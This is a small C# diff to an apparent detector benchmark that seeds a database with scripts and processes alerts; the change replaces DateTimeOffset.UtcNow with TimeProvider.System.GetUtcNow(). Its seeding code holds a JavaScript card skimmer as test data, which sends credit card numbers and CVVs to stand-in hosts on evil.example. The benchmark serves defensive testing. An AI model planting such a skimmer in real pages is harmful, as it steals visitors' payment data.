@@ -108,7 +108,7 @@ internal static class VerdictKillBenchmark
     private static async Task SeedAsync(string folder, int scripts, CancellationToken cancellationToken)
     {
         await using var database = Open(folder);
-        var now = DateTimeOffset.UtcNow;
+        var now = TimeProvider.System.GetUtcNow();
         for (var number = 1; number <= scripts; number++)
         {
             var source = $$"""document.addEventListener('submit', function () { fetch('https://evil{{number}}.example/c', { method: 'POST', body: document.querySelector('#cc-number').value + document.querySelector('#cvv').value }); });""";
@@ -148,7 +148,7 @@ internal static class VerdictKillBenchmark
     private static async Task<int> EndLeasesAsync(string folder, CancellationToken cancellationToken)
     {
         await using var database = Open(folder);
-        var now = DateTimeOffset.UtcNow;
+        var now = TimeProvider.System.GetUtcNow();
         var deliveries = database.AlertDeliveries.Where(row => row.State == DeliveryState.Waiting && row.NextAttemptAt > now);
         var judgements = database.PendingJudgements.Where(row => row.NextAttemptAt > now);
         return await judgements.ExecuteUpdateAsync(set => set.SetProperty(static row => row.NextAttemptAt, now), cancellationToken)
